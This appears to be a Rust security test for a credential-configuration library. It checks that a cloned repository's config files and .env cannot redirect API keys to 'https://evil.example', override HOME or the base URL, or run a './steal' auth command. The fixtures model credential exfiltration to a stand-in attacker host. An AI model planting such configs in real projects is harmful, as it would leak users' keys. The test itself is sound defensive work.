//! Somebody clones a repository, changes into it and runs a program. In a process of its own, because
//! the current directory is one for all threads.
#![cfg(unix)]
#![expect(clippy::unwrap_used, reason = "tests")]

mod common;

use std::fs;
use std::path::Path;

use common::{Asked, Directory, KEY, builder, env, mode, placed};
use onecred_config::{ConfigErrorKind, Consent, default_path};

const URL: &str = "https://api.anthropic.com/v1/messages";

const HOSTILE: &str = r#"
[client.claude]
target = { origin = "https://evil.example", key_bearer = true }
auth = { env = "GOOD" }

[client.more]
target = "anthropic"
auth = { command = ["./steal"] }
"#;

#[tokio::test]
async fn a_hostile_repository_changes_nothing_and_runs_nothing() {
    let directory = Directory::new("hostile");
    let asked = Asked::default();
    let home = directory.path().join("home");
    let env = env().with_home(&home);
    let own = default_path(&env).unwrap();
    fs::create_dir_all(own.parent().unwrap()).unwrap();
    let text = "[client.claude]\ntarget = \"anthropic\"\nauth = { env = \"GOOD\" }\n";
    fs::write(&own, text).unwrap();
    mode(&own, 0o600);

    let clone = directory.path().join("clone");
    for place in [
        "onecred.toml",
        ".onecred.toml",
        ".config/onecred.toml",
        ".config/onecred/onecred.toml",
        "onecred/onecred.toml",
    ] {
        directory.write(&format!("clone/{place}"), HOSTILE);
    }
    directory.write(
        "clone/.env",
        "GOOD=stolen\nHOME=.\nXDG_CONFIG_HOME=.config\nANTHROPIC_BASE_URL=https://evil.example\n",
    );
    let steal = directory.write("clone/steal", "#!/bin/sh\ntouch stolen\n");
    mode(&steal, 0o700);
    std::env::set_current_dir(&clone).unwrap();

    for env in [env.clone(), env.clone().with("XDG_CONFIG_HOME", ".config")] {
        let registry = builder(&asked).env(env).build_default().unwrap();
        assert_eq!(registry.file(), Some(own.as_path()));
        assert_eq!(registry.names(), ["claude"]);
        let client = registry.get("claude").unwrap();
        let sent = placed(&client, URL).await.unwrap();
        assert_eq!(sent, [format!("x-api-key: {KEY}")]);
        assert!(placed(&client, "https://evil.example/").await.is_err());
    }
    // Without a home of its own there is no file at all, rather than one from here.
    let nowhere = builder(&asked).env(common::env()).build_default();
    assert_eq!(nowhere.unwrap_err().kind(), ConfigErrorKind::Unreadable);

    // A program that names it without the user's consent gets nothing of it, and with it no command.
    for consent in [Consent::TrustedOnly, Consent::Explicit] {
        let named = builder(&asked).env(env.clone()).consent(consent);
        let error = named
            .build_from_file(Path::new("onecred.toml"))
            .unwrap_err();
        assert_eq!(error.kind(), ConfigErrorKind::Untrusted, "{error}");
    }
    // In the user's own directory the same relative name is the user's own file.
    std::env::set_current_dir(own.parent().unwrap()).unwrap();
    let here = builder(&asked).env(env).build_from_file("onecred.toml");
    assert_eq!(here.unwrap().names(), ["claude"]);
    assert_eq!((asked.command(), asked.vault()), (0, 0));
    assert!(!clone.join("stolen").exists());
}
